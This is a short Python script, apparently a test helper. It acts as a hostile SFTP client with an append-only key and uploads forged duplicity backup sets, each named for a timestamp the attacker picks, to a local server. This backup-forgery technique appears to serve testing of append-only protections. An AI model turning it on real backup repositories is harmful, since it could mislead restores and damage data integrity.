#!/usr/bin/python3
"""Uploads complete-looking duplicity sets over SFTP, as a hostile client
with only an append-only key could: a tiny volume, a signature file and,
last, a manifest per set, named for whatever time the attacker picks.

Usage: forge_sets.py PORT USER KEYFILE KNOWN_HOSTS DIR STAMP...

Each STAMP is a duplicity time (20991201T000000Z). Prints one line per set.
"""
import sys

import paramiko


def main():
    port, user, keyfile, known_hosts, directory = sys.argv[1:6]
    client = paramiko.SSHClient()
    client.load_host_keys(known_hosts)
    client.set_missing_host_key_policy(paramiko.RejectPolicy())
    client.connect("127.0.0.1", port=int(port), username=user, key_filename=keyfile,
                   allow_agent=False, look_for_keys=False)
    sftp = client.open_sftp()
    for stamp in sys.argv[6:]:
        for name in (f"duplicity-full.{stamp}.vol1.difftar.gpg",
                     f"duplicity-full-signatures.{stamp}.sigtar.gpg",
                     f"duplicity-full.{stamp}.manifest.gpg"):
            with sftp.open(f"{directory}/{name}", "wx") as f:
                f.write(b"forged " + stamp.encode())
        print(f"forged {stamp}", flush=True)
    sftp.close()
    client.close()


if __name__ == "__main__":
    main()
